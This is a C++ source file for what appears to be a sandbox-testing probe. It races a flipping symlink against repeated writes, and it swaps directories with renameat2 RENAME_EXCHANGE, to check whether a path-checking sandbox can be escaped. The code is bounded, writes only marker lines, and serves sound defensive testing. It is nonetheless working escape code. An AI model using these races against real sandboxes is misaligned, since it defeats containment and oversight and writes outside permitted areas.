// breakout-probe-fs-race: writes that a sandbox checking paths (not the kernel's walk at open)
// would let through, because the path changes between its check and the write (class fs-race;
// issue 21 item 7; catalog §1, rename/exchange races; Codex's Windows smoke tests, symlink flip
// race). Bounded in count and time.
//
//   --op flip --path P --link L    L (in the workspace) is a symlink flipped, by a second thread,
//                                  between P and a decoy next to L (L.decoy), each flip one
//                                  rename(2) of a fresh link over L; the main thread opens L
//                                  (O_WRONLY|O_CREAT|O_APPEND) and writes one line, again and
//                                  again, until --tries opens or --budget-ms. A write through L
//                                  while it names P writes P.
//   --op exchange --path P --src S  renameat2(S, P, RENAME_EXCHANGE): S, a directory the probe
//                                  makes in the workspace with one file (exchanged-by-breakout),
//                                  and P, a directory elsewhere, swap names in one step. A
//                                  sandbox that checks "both are inside" by path before the call,
//                                  or one that only guards creations, lets P's contents leave.
//
// The opens start once the link has flipped and go on past N until it flipped kMinFlips times.
// Result fields: flip: tries, opened, refused (opens that failed), flips, first_error (errno
// name of the first failed open), elapsed_ms; exchange: made_src. ok=true when at least one
// open (flip) or the exchange succeeded, as seen from inside. The verdict comes from the
// harness's snapshot of P, never from this.
// Exit: 0 ok, 1 failed attempt, 64 usage error. Only touches P, L (and L.decoy, L.flip) and S.
//
// POSIX only (Linux: renameat2).
#include <atomic>
#include <cerrno>
#include <cstdio>
#include <string>
#include <thread>

#include <fcntl.h>
#include <sched.h>
#include <linux/fs.h>  // RENAME_EXCHANGE
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "probes/common/args.h"
#include "probes/common/posix.h"
#include "probes/common/report.h"

using namespace breakout::probe;

namespace {

constexpr char kUsage[] =
    "usage: breakout-probe-fs-race --op flip --path P --link L [--tries N] [--budget-ms MS]\n"
    "       breakout-probe-fs-race --op exchange --path P --src S\n"
    "  flip: L flips between P and L.decoy while the probe writes through L (N opens, at most MS)\n"
    "  exchange: renameat2(S, P, RENAME_EXCHANGE), S made in the workspace with one file\n";

constexpr char kLine[] = "breakout: written through a flipping link\n";

// The opens go on past --tries until the link has flipped this often (within --budget-ms): on a
// loaded machine the flipper may barely run during 2000 quick opens, and a race that never
// flipped has not been tried (neither an escape under `none` nor a pass anywhere).
constexpr long long kMinFlips = 64;

// Flips `link` between `a` and `b` until told to stop: a fresh symlink at `link`.flip, renamed
// over `link` (atomic: every open of `link` sees one of the two, never no link).
class Flipper {
 public:
  Flipper(std::string link, std::string a, std::string b)
      : link_(std::move(link)), tmp_(link_ + ".flip"), a_(std::move(a)), b_(std::move(b)), thread_([this] { run(); }) {}
  ~Flipper() {
    stop_ = true;
    thread_.join();
    ::unlink(tmp_.c_str());
  }
  Flipper(const Flipper&) = delete;
  Flipper& operator=(const Flipper&) = delete;
  long long flips() const { return flips_.load(); }

 private:
  void run() {
    for (bool to_a = true; !stop_; to_a = !to_a) {
      ::unlink(tmp_.c_str());
      if (::symlink((to_a ? a_ : b_).c_str(), tmp_.c_str()) != 0) continue;
      if (::rename(tmp_.c_str(), link_.c_str()) == 0) ++flips_;
    }
  }

  std::string link_, tmp_, a_, b_;
  std::atomic<bool> stop_{false};
  std::atomic<long long> flips_{0};
  std::thread thread_;  // last: starts once the rest is set
};

void flip(ProbeReport& r, const std::string& path, const std::string& link, long long tries, long long budget_ms) {
  const std::string decoy = link + ".decoy";
  if (::symlink(decoy.c_str(), link.c_str()) != 0) return r.fail("symlink", errno);
  const std::int64_t start = now_ms();
  long long done = 0, opened = 0, refused = 0;
  int first_error = 0;
  long long flips = 0;
  {
    Flipper flipper(link, path, decoy);
    while (flipper.flips() == 0 && now_ms() - start < budget_ms) ::sched_yield();  // the race starts flipped
    for (; (done < tries || flipper.flips() < kMinFlips) && now_ms() - start < budget_ms; ++done) {
      const int fd = ::open(link.c_str(), O_WRONLY | O_CREAT | O_APPEND | O_NONBLOCK | O_CLOEXEC, 0644);
      if (fd < 0) {
        if (first_error == 0) first_error = errno;
        ++refused;
        continue;
      }
      ++opened;
      write_all(fd, kLine, sizeof kLine - 1);  // the open is the step a sandbox refuses
      ::close(fd);
    }
    flips = flipper.flips();
  }
  r.set("tries", done);
  r.set("opened", opened);
  r.set("refused", refused);
  r.set("flips", flips);
  r.set("first_error", first_error == 0 ? std::string() : errno_name(first_error));
  r.set("elapsed_ms", static_cast<long long>(now_ms() - start));
  if (flips == 0) return r.fail("flip", EAGAIN);  // the flipper never ran within the budget
  if (opened > 0) return r.succeed();
  r.fail("open", first_error);
}

void exchange(ProbeReport& r, const std::string& path, const std::string& src) {
  const bool made = ::mkdir(src.c_str(), 0755) == 0;
  r.set("made_src", made);
  if (!made && errno != EEXIST) return r.fail("mkdir", errno);
  static constexpr char kMark[] = "breakout: this directory came from the workspace\n";
  const int fd = ::open((src + "/exchanged-by-breakout").c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd < 0) return r.fail("open", errno);
  const int wrote = write_all(fd, kMark, sizeof kMark - 1);
  ::close(fd);
  if (wrote != 0) return r.fail("write", wrote);
  if (::syscall(SYS_renameat2, AT_FDCWD, src.c_str(), AT_FDCWD, path.c_str(), RENAME_EXCHANGE) != 0)
    return r.fail("renameat2", errno);
  r.succeed();
}

}  // namespace

int main(int argc, char** argv) {
  Args args(argc, argv, kUsage,
            {{"op", Args::kValue},
             {"path", Args::kValue},
             {"link", Args::kValue},
             {"src", Args::kValue},
             {"tries", Args::kValue},
             {"budget-ms", Args::kValue}});
  const std::string op = args.require("op");
  const std::string path = args.require("path");
  if (op != "flip" && op != "exchange") args.usage_error("unknown --op '" + op + "'");
  const bool is_flip = op == "flip";
  if (is_flip && (args.has("src") || !args.has("link"))) args.usage_error("--op flip takes --link, not --src");
  if (!is_flip && (args.has("link") || args.has("tries") || args.has("budget-ms") || !args.has("src")))
    args.usage_error("--op exchange takes --src only");
  const long long tries = args.get_int("tries", 1, 100000, 2000);
  const long long budget_ms = args.get_int("budget-ms", 10, 10000, 1000);

  ProbeReport r("fs-race");
  r.set("op", op);
  r.set("path", path);
  if (is_flip) {
    r.set("link", args.require("link"));
    flip(r, path, args.require("link"), tries, budget_ms);
  } else {
    r.set("src", args.require("src"));
    exchange(r, path, args.require("src"));
  }
  r.emit();
  return r.exit_code();
}
